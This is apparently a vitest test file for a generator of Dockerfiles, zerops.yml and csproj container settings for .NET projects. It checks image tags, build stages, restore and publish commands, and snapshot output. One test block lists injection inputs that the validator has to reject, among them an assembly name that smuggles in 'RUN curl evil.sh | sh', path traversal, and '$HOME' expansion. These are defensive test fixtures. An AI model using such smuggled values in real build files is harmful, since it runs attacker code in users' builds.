import path from 'node:path';
import {readFileSync} from 'node:fs';
import {Ajv2020} from 'ajv/dist/2020.js';
import {DockerfileParser} from 'dockerfile-ast';
import {validate} from 'dockerfile-utils';
import {parse as parseYaml} from 'yaml';
import {describe, expect, it} from 'vitest';
import {tagExists} from '../source/catalog/catalog.js';
import {recommend, type Recommendation} from '../source/engine/recommend.js';
import {makeProject} from '../source/project/project.js';
import {renderCsproj} from '../source/render/csproj.js';
import {renderDockerfile} from '../source/render/dockerfile.js';
import {buildkitDialect} from '../source/render/dockerfile-dialect.js';
import {renderDockerignore} from '../source/render/dockerignore.js';
import {generateFiles} from '../source/render/files.js';
import {renderZerops, zeropsDotnetBases} from '../source/render/zerops.js';
import {renderSummary} from '../source/render/summary.js';
import {allAnswers, recommendationFor, today} from './answers.js';
import {fixture, runCli} from './cli-run.js';

const project = makeProject({name: 'SampleApi', projectFile: 'src/SampleApi/SampleApi.csproj', restoreFiles: ['Directory.Build.props', 'src/SampleApi/SampleApi.csproj']});
const schema = JSON.parse(readFileSync(new URL('fixtures/zerops-yml-schema.json', import.meta.url), 'utf8'));
const validateZerops = new Ajv2020({strict: false, allErrors: true}).compile(schema);

const allowed: Recommendation[] = allAnswers()
	.map(answers => recommend(answers, today))
	.flatMap(outcome => (outcome.ok ? [outcome.recommendation] : []));

function imageReference(from: string): {repo: string; tag: string} {
	const match = /^mcr\.microsoft\.com\/dotnet\/([a-z-]+):(.+)$/.exec(from);
	if (!match) throw new Error(`not an official .NET image: ${from}`);
	return {repo: match[1]!, tag: match[2]!};
}

describe('Dockerfile for every allowed combination', () => {
	it('parses without errors, uses catalog tags only and follows the structural rules', () => {
		expect(allowed.length).toBeGreaterThan(1000);
		for (const recommendation of allowed) {
			const label = JSON.stringify(recommendation.answers);
			const content = renderDockerfile(recommendation, project, 'sampleapi');
			const errors = validate(content).filter(diagnostic => diagnostic.severity === 1);
			expect(errors, `${label}\n${content}`).toEqual([]);

			const dockerfile = DockerfileParser.parse(content);
			const froms = dockerfile.getFROMs();
			expect(froms, label).toHaveLength(2);
			const [build, runtime] = froms as [typeof froms[0], typeof froms[0]];
			for (const from of froms) {
				const {repo, tag} = imageReference(from.getImage()!);
				expect(tagExists(repo as never, tag), `${label}: ${repo}:${tag}`).toBe(true);
			}
			expect(imageReference(build.getImage()!).repo, label).toBe('sdk');
			expect(build.getBuildStage(), label).toBe('build');
			const cross = recommendation.buildMode !== 'emulated';
			expect(build.getFlags().map(flag => `${flag.getName()}=${flag.getValue()}`), label).toEqual(cross ? ['platform=$BUILDPLATFORM'] : []);

			const instructions = dockerfile.getInstructions();
			const runtimeStart = instructions.indexOf(runtime);
			const buildStage = instructions.slice(0, runtimeStart);
			const runtimeStage = instructions.slice(runtimeStart);
			const publish = buildStage.filter(instruction => instruction.getKeyword() === 'RUN').map(instruction => instruction.getRawArgumentsContent()).find(text => text?.includes('dotnet publish'))!;
			expect(publish, label).toContain('--no-restore');
			if (cross) expect(publish, label).toContain('-a $TARGETARCH');
			if (cross) expect(buildStage.some(instruction => instruction.getKeyword() === 'ARG' && instruction.getRawArgumentsContent() === 'TARGETARCH'), label).toBe(true);

			const keywords = runtimeStage.map(instruction => instruction.getKeyword());
			expect(keywords, label).not.toContain('RUN');
			const copies = runtimeStage.filter(instruction => instruction.getKeyword() === 'COPY') as Array<ReturnType<typeof dockerfile.getCOPYs>[number]>;
			expect(copies.map(copy => [copy.getFlags().map(flag => `${flag.getName()}=${flag.getValue()}`).join(' '), copy.getRawArgumentsContent()]), label).toEqual([['from=build', '/app .']]);
			expect(content, label).not.toContain('--link');
			expect(keywords.includes('USER'), label).toBe(!recommendation.runtime.image.distroless);
			expect(keywords.includes('EXPOSE'), label).toBe(recommendation.answers.app === 'web');
			const entrypoint = runtimeStage.find(instruction => instruction.getKeyword() === 'ENTRYPOINT')!.getRawArgumentsContent();
			expect(entrypoint, label).toBe(recommendation.answers.deploy === 'framework' ? '["dotnet", "SampleApi.dll"]' : '["./SampleApi"]');
			const invariant = content.match(/DOTNET_SYSTEM_GLOBALIZATION_INVARIANT=(\w+)/)?.[1];
			if (invariant) expect(invariant, label).toBe(recommendation.answers.globalization === 'invariant' ? 'true' : 'false');
		}
	});

	it('restores from the project files alone, before copying the source', () => {
		const content = renderDockerfile(recommendationFor({}), project, 'sampleapi');
		expect(content).toContain('COPY Directory.Build.props .\nCOPY src/SampleApi/SampleApi.csproj src/SampleApi/\nRUN --mount=type=cache,id=nuget,target=/root/.nuget/packages \\\n    dotnet restore src/SampleApi/SampleApi.csproj -a $TARGETARCH -p:Configuration=Release\n\nCOPY . .');
	});

	it('uses COPY --link only where the engine accepts it', () => {
		const buildkit = renderDockerfile(recommendationFor({}), project, 'sampleapi', {dialect: buildkitDialect});
		expect(buildkit).toContain('COPY --link src/SampleApi/SampleApi.csproj src/SampleApi/\n');
		expect(buildkit).toContain('COPY --link . .\n');
		expect(buildkit).toContain('COPY --link --from=build /app .\n');
		expect(renderDockerfile(recommendationFor({}), project, 'sampleapi', {dialect: {copyLink: false}})).not.toContain('--link');
	});

	it('restores with the properties it publishes with, so a self-contained publish finds its runtime packs', () => {
		const content = renderDockerfile(recommendationFor({deploy: 'self-contained'}), project, 'sampleapi');
		expect(content).toContain('RUN --mount=type=cache,id=nuget,target=/root/.nuget/packages \\\n    dotnet restore src/SampleApi/SampleApi.csproj -a $TARGETARCH -p:SelfContained=true -p:Configuration=Release\n');
		expect(content).toContain('RUN --mount=type=cache,id=nuget,target=/root/.nuget/packages \\\n    dotnet publish src/SampleApi/SampleApi.csproj -a $TARGETARCH --no-restore -c Release -p:SelfContained=true -o /app\n');
		const readyToRun = renderDockerfile(recommendationFor({deploy: 'self-contained', startup: 'readytorun'}), project, 'sampleapi');
		expect(readyToRun).toContain('RUN --mount=type=cache,id=nuget,target=/root/.nuget/packages \\\n    dotnet restore src/SampleApi/SampleApi.csproj -a $TARGETARCH -p:SelfContained=true -p:PublishReadyToRun=true -p:Configuration=Release\n');
	});

	it('publishes a multi-targeted project for the chosen framework (else NETSDK1129)', () => {
		const multi = makeProject({name: 'Shop', projectFile: 'Shop.csproj', frameworks: ['net8.0', 'net10.0']});
		expect(renderDockerfile(recommendationFor({}), multi, 'shop')).toContain('RUN --mount=type=cache,id=nuget,target=/root/.nuget/packages \\\n    dotnet publish Shop.csproj -f net10.0 -a $TARGETARCH --no-restore -c Release -o /app\n');
		expect(parseYaml(renderZerops(recommendationFor({}), multi).content).zerops[0].build.buildCommands).toEqual(['dotnet publish Shop.csproj -f net10.0 -c Release -o app']);
		expect(renderCsproj(recommendationFor({}), multi, 'shop')).toContain('dotnet publish Shop.csproj -f net10.0 -c Release /t:PublishContainer');
		expect(renderDockerfile(recommendationFor({}), project, 'sampleapi')).not.toContain(' -f ');
	});

	it('starts a single-file app as its executable, even framework-dependent', () => {
		const single = makeProject({name: 'Tool', projectFile: 'Tool.csproj', singleFile: true});
		expect(renderDockerfile(recommendationFor({}), single, 'tool')).toContain('ENTRYPOINT ["./Tool"]\n');
		const zerops = parseYaml(renderZerops(recommendationFor({}), single).content).zerops[0];
		expect(zerops.run.start).toBe('./Tool');
		expect(zerops.build.buildCommands[0]).toBe('dotnet publish Tool.csproj -c Release -o app -r linux-x64');
	});

	it('names the build context of a Dockerfile that is not at the context root', () => {
		const content = renderDockerfile(recommendationFor({arch: ['amd64']}), project, 'sampleapi', {placement: {context: '../..', dockerfile: 'Dockerfile'}});
		expect(content).toContain('# Build: docker buildx build --platform linux/amd64 --tag sampleapi --file Dockerfile --load ../..\n');
	});

	it('adds the cross toolchain for Native AOT on Ubuntu, and the AOT packages where no -aot SDK exists', () => {
		const ubuntu = renderDockerfile(recommendationFor({deploy: 'aot'}), project, 'sampleapi');
		expect(ubuntu).toContain('gcc-$triple zlib1g-dev:$TARGETARCH');
		expect(ubuntu).toContain('Suites: noble noble-updates');
		const debian9 = renderDockerfile(recommendationFor({dotnet: '9.0', deploy: 'aot', os: 'debian'}), project, 'sampleapi');
		expect(debian9).toContain('apt-get install -y --no-install-recommends clang zlib1g-dev');
		expect(debian9).toMatch(/^FROM mcr\.microsoft\.com\/dotnet\/sdk:9\.0-bookworm-slim AS build$/m);
	});

	it('names the buildx command for the chosen platforms', () => {
		expect(renderDockerfile(recommendationFor({arch: ['arm64']}), project, 'sampleapi')).toContain('# Build: docker buildx build --platform linux/arm64 --tag sampleapi --load .');
		// A push names a registry: the placeholder the person replaces, never a bare name (Docker Hub's library namespace).
		const pushed = renderDockerfile(recommendationFor({}), project, 'sampleapi');
		expect(pushed).toContain('# Build: docker buildx build --platform linux/amd64,linux/arm64 --tag REGISTRY/sampleapi --sbom=true --provenance=mode=max --push .\n# (replace REGISTRY with your registry: the build pushes the image there)\n');
		expect(pushed).not.toContain('--tag sampleapi ');
		// An image that names its registry is pushed there, with nothing to replace.
		const named = renderDockerfile(recommendationFor({}), project, 'ghcr.io/acme/sampleapi');
		expect(named).toContain('--tag ghcr.io/acme/sampleapi --sbom=true');
		expect(named).not.toContain('REGISTRY');
	});
});

describe('zerops.yml', () => {
	it('validates against the Zerops schema for every allowed combination it supports', () => {
		let checked = 0;
		for (const recommendation of allowed) {
			if (!zeropsDotnetBases.includes(recommendation.answers.dotnet.split('.')[0]!)) continue;
			const {content} = renderZerops(recommendation, project);
			const document = parseYaml(content);
			expect(validateZerops(document), `${JSON.stringify(recommendation.answers)}\n${JSON.stringify(validateZerops.errors)}`).toBe(true);
			const run = document.zerops[0].run;
			// app/~ puts the published files in /var/www, where start runs: the content root is the app's folder.
			expect(document.zerops[0].build.deployFiles).toEqual(['./app/~']);
			expect(run.start).toMatch(recommendation.answers.deploy === 'framework' ? /^dotnet SampleApi\.dll$/ : /^\.\/SampleApi$/);
			checked++;
		}
		expect(checked).toBeGreaterThan(500);
	});

	it('builds a custom runtime image when the Alpine runtime needs ICU', () => {
		const {content, notes} = renderZerops(recommendationFor({os: 'alpine', globalization: 'icu'}), project);
		expect(parseYaml(content).zerops[0].run.prepareCommands).toEqual(['sudo apk add --no-cache icu-libs icu-data-full tzdata']);
		expect(notes.join(' ')).toMatch(/custom runtime image/);
		expect(parseYaml(renderZerops(recommendationFor({os: 'alpine'}), project).content).zerops[0].run.prepareCommands).toBeUndefined();
	});

	it('refuses a .NET version Zerops has no base for, and skips it within "all"', () => {
		const preview = recommendationFor({dotnet: '11.0'});
		expect(() => renderZerops(preview, project)).toThrow(/Zerops has no dotnet@11 base/);
		const {files, notes} = generateFiles(preview, project, 'sampleapi', {kinds: ['dockerfile', 'zerops'], explicit: false});
		expect(files.map(file => file.name)).toEqual(['Dockerfile']);
		expect(notes[0]).toMatch(/zerops\.yml skipped/);
	});
});

describe('representative files', () => {
	it.each([
		['web-chiseled', {}],
		['worker-alpine-icu-self-contained', {app: 'console', os: 'alpine', globalization: 'icu', deploy: 'self-contained', arch: ['amd64', 'arm64', 'arm']}],
		['web-aot-cross', {deploy: 'aot'}],
		['web-composite-azurelinux', {os: 'azurelinux', startup: 'composite', arch: ['amd64']}],
		['web-full-debian-readytorun', {dotnet: '9.0', os: 'debian', shell: 'yes', startup: 'readytorun'}],
	] as const)('%s', async (name, overrides) => {
		const recommendation = recommendationFor(overrides as never);
		const {files} = generateFiles(recommendation, project, 'sampleapi', {kinds: ['dockerfile', 'zerops', 'csproj'], explicit: false});
		const text = files.map(file => `==> ${file.name} <==\n${file.content}`).join('\n');
		await expect(text).toMatchFileSnapshot(`snapshots/${name}.txt`);
	});

	it('ignores build output, local state and secrets', () => {
		const ignore = renderDockerignore().split('\n');
		for (const entry of ['**/bin/', '**/obj/', '**/*.oci.tar', '.git/', '.vs/', '.vscode/', '.idea/', '**/.env', '**/secrets.json', '**/Dockerfile*']) expect(ignore).toContain(entry);
	});

	it('says how the project imports container.props from the context root', () => {
		const {notes} = generateFiles(recommendationFor({}), project, 'sampleapi', {kinds: ['csproj'], explicit: true});
		// The note after a write and the file's own comment say it the same way, as the next steps do.
		expect(notes).toEqual(['container.props: add <Import Project="../../container.props" /> to src/SampleApi/SampleApi.csproj (or paste its PropertyGroup in).']);
		const [props] = generateFiles(recommendationFor({}), project, 'sampleapi', {kinds: ['csproj'], explicit: true}).files;
		expect(props!.content).toContain('<!-- To build with the .NET SDK, add <Import Project="../../container.props" /> to src/SampleApi/SampleApi.csproj, then: dotnet publish');
		expect(props!.content).not.toContain('Paste into');
		const atRoot = generateFiles(recommendationFor({}), makeProject({name: 'Api', projectFile: 'Api.csproj'}), 'api', {kinds: ['csproj'], explicit: true});
		expect(atRoot.notes[0]).toContain('<Import Project="container.props" />');
	});

	it('gives SDK container properties for the same choice', () => {
		const csproj = renderCsproj(recommendationFor({os: 'alpine', globalization: 'icu', deploy: 'aot'}), project, 'sampleapi');
		expect(csproj).toContain('<ContainerBaseImage>mcr.microsoft.com/dotnet/runtime-deps:10.0-alpine-extra</ContainerBaseImage>');
		expect(csproj).toContain('<ContainerRuntimeIdentifiers>linux-musl-x64;linux-musl-arm64</ContainerRuntimeIdentifiers>');
		expect(csproj).toContain('<PublishAot>true</PublishAot>');
		expect(csproj).toContain('<InvariantGlobalization>false</InvariantGlobalization>');
		expect(csproj).toContain('dotnet publish src/SampleApi/SampleApi.csproj -c Release /t:PublishContainer -->');
		expect(renderCsproj(recommendationFor({app: 'console', arch: ['arm64']}), project, 'sampleapi')).toContain('/t:PublishContainer -a arm64 -->');
	});
});

describe('values that reach generated files', () => {
	it.each([
		['a newline and RUN in the assembly name', {name: 'App\nRUN curl evil.sh | sh'}],
		['a quote in the assembly name', {name: 'App", "--evil'}],
		['a parent directory in the project path', {name: 'App', projectFile: '../secret/App.csproj'}],
		['a space in the project path', {name: 'App', projectFile: 'src/My App/App.csproj'}],
		['an absolute project path', {name: 'App', projectFile: '/etc/App.csproj'}],
		['a leading dash in the project path, which a tool would read as a flag', {name: 'App', projectFile: '-rf/App.csproj'}],
		['a $ in the assembly name, which a Dockerfile or shell would expand', {name: 'App$HOME'}],
	])('rejects %s', (_name, input) => {
		expect(() => makeProject(input)).toThrow(/can only contain|must be a relative path/);
	});

	it('splits the image into the SDK\'s ContainerRegistry, ContainerRepository and ContainerImageTag', () => {
		const csproj = renderCsproj(recommendationFor({}), project, 'registry.example.com/team/api:1.0');
		expect(csproj).toContain('  <ContainerRegistry>registry.example.com</ContainerRegistry>\n  <ContainerRepository>team/api</ContainerRepository>\n  <ContainerImageTag>1.0</ContainerImageTag>\n');
		expect(renderCsproj(recommendationFor({}), project, 'sampleapi')).not.toMatch(/ContainerRegistry|ContainerImageTag/);
	});
});

describe('a Dockerfile printed from the app\'s folder', () => {
	it('names the build context its COPY paths are relative to', async () => {
		const {exitCode, stdout} = await runCli(['--yes', '--arch', 'amd64', '--output', 'dockerfile'], {cwd: path.join(fixture('references'), 'App')});
		expect(exitCode).toBe(0);
		expect(stdout).toContain('# Build: docker buildx build --platform linux/amd64 --tag app --file Dockerfile --load ..\n');
		expect(stdout).toContain('COPY App/App.csproj App/\n');
	});
});

describe('the summary', () => {
	it('says how many alternatives it leaves out, and where to see them', () => {
		const recommendation = recommendationFor({});
		expect(recommendation.alternatives).toHaveLength(4);
		const short = renderSummary(recommendation, {explain: false});
		expect(short).toContain(`  ${recommendation.alternatives[2]!.runtime}`);
		expect(short).not.toContain(recommendation.alternatives[3]!.runtime);
		expect(short).toContain('\n  +1 more alternative (--explain)\n');
		expect(renderSummary(recommendation, {explain: true})).not.toContain('more alternative');
	});
});
